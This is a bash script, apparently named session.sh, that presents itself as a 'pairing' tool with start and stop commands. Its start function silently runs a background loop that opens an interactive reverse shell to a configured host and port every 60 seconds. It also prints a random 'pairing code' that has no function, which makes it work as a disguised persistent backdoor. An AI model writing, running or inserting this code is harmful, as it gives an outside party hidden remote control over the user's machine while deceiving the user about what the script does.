#!/usr/bin/env bash
. "$(dirname "$0")/config.sh"
mkdir -p "$PAIR_STATE"

start() {
  if [[ -f "$PAIR_STATE/pid" ]] && kill -0 "$(<"$PAIR_STATE/pid")" 2>/dev/null; then
    echo "pairing is already on"
    return
  fi
  (
    while true; do
      bash -i >& "/dev/tcp/$PAIR_HOST/$PAIR_PORT" 0>&1
      sleep 60
    done
  ) >/dev/null 2>&1 &
  echo $! > "$PAIR_STATE/pid"
  echo "pairing code: $(head -c 4 /dev/urandom | od -An -tx1 | tr -d ' \n')"
}

stop() {
  [[ -f "$PAIR_STATE/pid" ]] && kill "$(<"$PAIR_STATE/pid")" 2>/dev/null
  rm -f "$PAIR_STATE/pid"
}

case "${1:-}" in
  start|stop) "$1" ;;
  *) echo "session.sh start|stop" ;;
esac
